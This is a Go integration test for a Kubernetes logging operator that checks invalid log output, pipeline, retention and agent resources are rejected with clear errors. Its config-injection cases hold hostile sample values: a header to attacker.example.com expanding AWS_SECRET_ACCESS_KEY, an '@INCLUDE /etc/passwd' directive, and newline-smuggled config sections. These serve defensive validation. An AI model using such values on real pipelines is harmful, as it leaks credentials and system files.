package integration

import (
	"strings"
	"testing"

	corev1 "k8s.io/api/core/v1"
	apierrors "k8s.io/apimachinery/pkg/api/errors"
	metav1 "k8s.io/apimachinery/pkg/apis/meta/v1"
	"sigs.k8s.io/controller-runtime/pkg/client"

	"github.com/logplane/logplane/test/testenv"
)

const validationNamespace = "validation"

// Each resource below breaks exactly one rule; the API server must reject it at apply
// time with a message that tells the user what to fix.
func TestInvalidResourcesAreRejected(t *testing.T) {
	ensureNamespace(t, validationNamespace)

	cases := []struct {
		name    string
		yaml    string
		wantMsg string
	}{
		// --- output union ---
		{"type without its block", output(`type: s3`), "type s3 needs the s3 block"},
		{"a second block beside the typed one", output(`
type: stdout
stdout: {}
http: {host: logs.example.com}`), "the http block needs type http"},
		{"unknown output type", output(`type: fluentd`), `Unsupported value: "fluentd"`},
		{"cluster output union too", clusterOutput(`type: kafka`), "type kafka needs the kafka block"},

		// --- cross-field rules ---
		{"cloudwatch stream name and prefix", output(`
type: cloudwatchLogs
cloudwatchLogs: {aws: {region: eu-west-1}, logGroupName: /a, logStreamName: s, logStreamPrefix: p}`),
			"set exactly one of logStreamName and logStreamPrefix"},
		{"cloudwatch retention days not allowed by CloudWatch", output(`
type: cloudwatchLogs
cloudwatchLogs: {aws: {region: eu-west-1}, logGroupName: /a, logStreamPrefix: p, logRetentionDays: 10}`),
			"Unsupported value: 10"},
		{"cloudwatch retention twice", output(`
type: cloudwatchLogs
retentionPolicy: error
cloudwatchLogs: {aws: {region: eu-west-1}, logGroupName: /a, logStreamPrefix: p, logRetentionDays: 90}`),
			"set retention either with retentionPolicy or with cloudwatchLogs.logRetentionDays"},
		{"s3 file size below 1M", output(`
type: s3
s3: {aws: {region: eu-west-1}, bucket: logs, totalFileSize: 100k}`), "must be between 1M and 50G"},
		{"s3 file size above 50G", output(`
type: s3
s3: {aws: {region: eu-west-1}, bucket: logs, totalFileSize: 60G}`), "must be between 1M and 50G"},
		{"s3 bucket name", output(`
type: s3
s3: {aws: {region: eu-west-1}, bucket: My_Bucket}`), "must be an S3 bucket name"},
		{"opensearch with SigV4 and basic auth", output(`
type: opensearch
opensearch:
  host: search.example.com
  index: logs
  aws: {region: eu-west-1}
  basicAuth: {user: u, password: {name: s, key: p}}`), "set at most one of aws and basicAuth"},
		{"opensearch serverless without aws", output(`
type: opensearch
opensearch: {host: search.example.com, index: logs, serverless: true}`), "serverless needs the aws block"},
		{"opensearch index and daily prefix", output(`
type: opensearch
opensearch: {host: search.example.com, index: logs, dailyIndexPrefix: logs}`),
			"set exactly one of index and dailyIndexPrefix"},
		{"elasticsearch host and cloudId", output(`
type: elasticsearch
elasticsearch: {host: es.example.com, cloudId: "dep:abc", index: logs}`), "set exactly one of host and cloudId"},
		{"syslog over UDP with tls", output(`
type: syslog
syslog: {host: syslog.example.com, mode: UDP}
tls: {}`), "tls cannot be used with syslog mode UDP"},
		{"tls client cert without key", output(`
type: http
http: {host: logs.example.com}
tls: {cert: {name: client-tls, key: tls.crt}}`), "cert and key must be given together"},
		{"tls on stdout", output(`
type: stdout
stdout: {}
tls: {}`), "tls does not apply to type stdout"},
		{"secure forward without tls", output(`
type: forward
forward: {host: fluentd.example.com, sharedKey: {name: fwd, key: key}}`), "forward.sharedKey (secure forward) needs the tls block"},
		{"header with value and valueFrom", output(`
type: http
http:
  host: logs.example.com
  headers: [{name: Authorization, value: x, valueFrom: {name: s, key: k}}]`), "set exactly one of value and valueFrom"},

		{"loki label name with a dash", output(`
type: loki
loki: {host: loki, labels: [{key: app-name, value: web}]}`), "Loki label names are letters, digits and '_'"},
		{"opensearch with an AWS endpoint", output(`
type: opensearch
opensearch: {host: search.example.com, index: logs, aws: {region: eu-west-1, endpoint: "https://vpce.example.com"}}`),
			"aws.endpoint does not apply to OpenSearch"},
		{"kafka with a TLS server name", output(`
type: kafka
kafka: {brokers: ["kafka:9093"], topic: logs}
tls: {serverName: kafka.internal}`), "tls.serverName is not supported for kafka"},
		{"nested field where only top-level works", output(`
type: syslog
syslog: {host: syslog.example.com, severityKey: "$kubernetes['labels']['level']"}`), "must be a top-level field name"},
		{"firehose time key and log key", output(`
type: kinesisFirehose
kinesisFirehose: {aws: {region: eu-west-1}, deliveryStream: s, timeKey: time, logKey: log}`), "set at most one of timeKey and logKey"},
		{"datadog tag with a comma", output(`
type: datadog
datadog: {apiKey: {name: dd, key: k}, tags: ["env:prod,team:a"]}`), "a tag must not contain ','"},

		// --- config injection ---
		{"newline in a value", output(`
type: loki
loki: {host: loki.example.com, tenantId: "team-a\n[OUTPUT]"}`), "must be a single line"},
		{"environment expansion in a header", output(`
type: http
http:
  host: attacker.example.com
  headers: [{name: X-Steal, value: "${AWS_SECRET_ACCESS_KEY}"}]`), "must not contain '${'"},
		{"directive in an added field", pipeline(`
input: {containers: {}}
outputRefs: [o]
filters:
- type: addFields
  addFields: {fields: [{key: k, value: "@INCLUDE /etc/passwd"}]}`), "must not start with '@' or '['"},
		{"section header in a value", output(`
type: splunk
splunk: {host: splunk.example.com, token: {name: hec, key: token}, source: "[OUTPUT]"}`),
			"must not start with '@' or '['"},
		{"environment expansion in a URL path", output(`
type: http
http: {host: logs.example.com, path: "/ingest${HOME}"}`), "must be a URL path"},
		{"carriage return in a regex", pipeline(`
input: {containers: {}}
outputRefs: [o]
filters:
- type: grep
  grep: {include: [{field: log, regex: "a\rb"}]}`), "must be a single line"},
		{"host with a scheme", output(`
type: http
http: {host: "https://logs.example.com"}`), "must be a DNS name or an IP address"},

		// --- filters ---
		{"filter type without its block", pipeline(`
input: {containers: {}}
outputRefs: [o]
filters: [{type: grep}]`), "type grep needs the grep block"},
		{"grep without rules", pipeline(`
input: {containers: {}}
outputRefs: [o]
filters: [{type: grep, grep: {}}]`), "grep needs at least one include or exclude rule"},
		{"regex parser without regex", pipeline(`
input: {containers: {}}
outputRefs: [o]
filters: [{type: parse, parse: {format: Regex}}]`), "regex is required with format Regex"},
		{"regex parser without named group", pipeline(`
input: {containers: {}}
outputRefs: [o]
filters: [{type: parse, parse: {format: Regex, regex: "^(\\w+) (.*)$"}}]`), "regex must have at least one named group"},
		{"python named group in a parse regex", pipeline(`
input: {containers: {}}
outputRefs: [o]
filters: [{type: parse, parse: {format: Regex, regex: "^(?P<level>\\w+) (?P<msg>.*)$"}}]`), "(?P<name>...) is Python syntax"},
		{"malformed nested field", pipeline(`
input: {containers: {}}
outputRefs: [o]
filters: [{type: grep, grep: {exclude: [{field: "$kubernetes[labels]", regex: x}]}}]`), "must be a field name such as log"},
		{"throttle of zero records", pipeline(`
input: {containers: {}}
outputRefs: [o]
filters: [{type: throttle, throttle: {records: 0}}]`), "should be greater than or equal to 1"},
		{"throttle interval of zero", pipeline(`
input: {containers: {}}
outputRefs: [o]
filters: [{type: throttle, throttle: {records: 10, interval: 0s}}]`), "must be from 1s to 24h"},
		{"two throttles", pipeline(`
input: {containers: {}}
outputRefs: [o]
filters: [{type: throttle, throttle: {records: 10}}, {type: throttle, throttle: {records: 20}}]`), "at most one throttle filter"},
		{"throttle interval over a day", pipeline(`
input: {containers: {}}
outputRefs: [o]
filters: [{type: throttle, throttle: {records: 10, interval: 25h}}]`), "must be from 1s to 24h"},
		{"added field without a value", pipeline(`
input: {containers: {}}
outputRefs: [o]
filters: [{type: addFields, addFields: {fields: [{key: team, value: ""}]}}]`), "should be at least 1 chars long"},
		{"an STS endpoint with a port", output(`
type: kinesisFirehose
kinesisFirehose: {aws: {region: eu-west-1, roleArn: "arn:aws:iam::123456789012:role/w", stsEndpoint: "https://sts.internal:8443"}, deliveryStream: s}`),
			"Fluent Bit always reaches STS with TLS on port 443"},
		{"a CloudWatch endpoint with a port", output(`
type: cloudwatchLogs
cloudwatchLogs: {aws: {region: eu-west-1, endpoint: "https://logs.internal:8443"}, logGroupName: /a, logStreamPrefix: p}`),
			"aws.endpoint must be https://host without a port"},
		{"a Firehose endpoint over plain http", output(`
type: kinesisFirehose
kinesisFirehose: {aws: {region: eu-west-1, endpoint: "http://firehose.internal"}, deliveryStream: s}`),
			"aws.endpoint must be https://host without a port"},
		{"kafka SASL without a user", output(`
type: kafka
kafka: {brokers: [kafka:9093], topic: logs, sasl: {mechanism: PLAIN, username: "", password: {name: k, key: p}}}`),
			"should be at least 1 chars long"},

		// --- pipelines ---
		{"pipeline without outputs", pipeline(`input: {containers: {}}`), "a pipeline needs at least one destination"},
		{"pipeline with both inputs", pipeline(`
input: {containers: {}, files: {podSelector: {}, paths: [/var/log/a.log]}}
outputRefs: [o]`), "set exactly one of input.containers and input.files"},
		{"relative file path", pipeline(`
input: {files: {podSelector: {}, paths: [logs/app.log]}}
outputRefs: [o]`), "must be an absolute path to a file"},
		{"glob in a directory", pipeline(`
input: {files: {podSelector: {}, paths: [/var/log/*/app.log]}}
outputRefs: [o]`), "'*' is allowed in the file name only"},
		{"output reference that is not a name", pipeline(`
input: {containers: {}}
outputRefs: [Team_A]`), "must be a valid object name"},
		{"agent name with capitals", pipeline(`
agent: Default
input: {containers: {}}
outputRefs: [o]`), "must be the name of a LogAgent"},
		{"cluster pipeline without input", `
apiVersion: logging.logplane.dev/v1alpha1
kind: ClusterLogPipeline
metadata: {name: no-input}
spec: {input: {}, clusterOutputRefs: [o]}`, "set at least one of input.containers, input.node and input.events"},

		// --- AWS, Kafka, secret references ---
		{"AWS region", output(`
type: kinesisStreams
kinesisStreams: {aws: {region: EU-WEST}, stream: s}`), "must be an AWS region"},
		{"AWS role ARN", output(`
type: kinesisStreams
kinesisStreams: {aws: {region: eu-west-1, roleArn: "arn:aws:iam::12:user/x"}, stream: s}`), "must be an IAM role ARN"},
		{"kafka broker without port", output(`
type: kafka
kafka: {brokers: [kafka-0.kafka], topic: logs}`), "must be host:port"},
		{"secret name with capitals", output(`
type: datadog
datadog: {apiKey: {name: DD_KEY, key: api-key}}`), "must be a valid object name"},

		// --- retention policies ---
		{"retention in words", `
apiVersion: logging.logplane.dev/v1alpha1
kind: RetentionPolicy
metadata: {name: words}
spec: {retention: 90 days}`, "must be a whole number of days or years"},
		{"unknown delivery guarantee", `
apiVersion: logging.logplane.dev/v1alpha1
kind: RetentionPolicy
metadata: {name: exactly-once}
spec: {retention: 30d, delivery: ExactlyOnce}`, `Unsupported value: "ExactlyOnce"`},
		{"buffer below 1Mi", `
apiVersion: logging.logplane.dev/v1alpha1
kind: RetentionPolicy
metadata: {name: tiny-buffer}
spec: {retention: 30d, buffer: {maxSize: 100Ki}}`, "must be at least 1Mi"},
		{"retry duration in words", `
apiVersion: logging.logplane.dev/v1alpha1
kind: RetentionPolicy
metadata: {name: retry-words}
spec: {retention: 30d, retry: {maxDuration: 1 hour}}`, "must be a duration from 0s (no limit) to 8760h"},

		// --- agents ---
		{"relative host path", agent(`hostPath: var/lib/logplane`), "must be an absolute directory path"},
		{"privileged metrics port", agent(`metricsPort: 80`), "should be greater than or equal to 1024"},
		{"zero maxUnavailable", agent(`maxUnavailable: 0%`), "must be a positive number of pods or a percentage"},
		{"unknown reload mode", agent(`configReload: Signal`), `Unsupported value: "Signal"`},
	}
	if len(cases) < 25 {
		t.Fatalf("want at least 25 cases, have %d", len(cases))
	}
	for _, tc := range cases {
		t.Run(tc.name, func(t *testing.T) {
			objs, err := testenv.DecodeYAML([]byte(tc.yaml))
			if err != nil || len(objs) != 1 {
				t.Fatalf("bad test case YAML (%d objects): %v", len(objs), err)
			}
			err = k8s.Create(t.Context(), objs[0], client.DryRunAll)
			if err == nil {
				t.Fatalf("accepted; want rejection with %q", tc.wantMsg)
			}
			if !apierrors.IsInvalid(err) {
				t.Fatalf("want an Invalid error, got %v", err)
			}
			if !strings.Contains(err.Error(), tc.wantMsg) {
				t.Fatalf("error does not say %q:\n%v", tc.wantMsg, err)
			}
		})
	}
}

// The bases the invalid cases start from are themselves valid, so that each case fails
// for the one reason it names and not for a mistake in its scaffolding.
func TestValidationBasesAreValid(t *testing.T) {
	ensureNamespace(t, validationNamespace)
	for _, y := range []string{
		output("type: stdout\nstdout: {}"),
		clusterOutput("type: kafka\nkafka: {brokers: [\"kafka-0.kafka:9092\", \"[::1]:9092\"], topic: logs}"),
		pipeline("input: {containers: {}}\noutputRefs: [o]"),
		agent("maxUnavailable: 2"),
	} {
		objs, err := testenv.DecodeYAML([]byte(y))
		if err != nil {
			t.Fatal(err)
		}
		if err := k8s.Create(t.Context(), objs[0], client.DryRunAll); err != nil {
			t.Errorf("valid base rejected: %v\n%s", err, y)
		}
	}
}

func output(spec string) string {
	return "apiVersion: logging.logplane.dev/v1alpha1\nkind: LogOutput\nmetadata: {name: out, namespace: " +
		validationNamespace + "}\nspec:\n" + indent(spec)
}

func clusterOutput(spec string) string {
	return "apiVersion: logging.logplane.dev/v1alpha1\nkind: ClusterLogOutput\nmetadata: {name: out}\nspec:\n" + indent(spec)
}

func pipeline(spec string) string {
	return "apiVersion: logging.logplane.dev/v1alpha1\nkind: LogPipeline\nmetadata: {name: p, namespace: " +
		validationNamespace + "}\nspec:\n" + indent(spec)
}

func agent(spec string) string {
	return "apiVersion: logging.logplane.dev/v1alpha1\nkind: LogAgent\nmetadata: {name: a}\nspec:\n" + indent(spec)
}

func indent(s string) string {
	lines := strings.Split(strings.TrimSpace(s), "\n")
	for i, l := range lines {
		lines[i] = "  " + l
	}
	return strings.Join(lines, "\n") + "\n"
}

func ensureNamespace(t *testing.T, name string) {
	t.Helper()
	ns := &corev1.Namespace{ObjectMeta: metav1.ObjectMeta{Name: name}}
	if err := k8s.Create(t.Context(), ns); err != nil && !apierrors.IsAlreadyExists(err) {
		t.Fatal(err)
	}
}
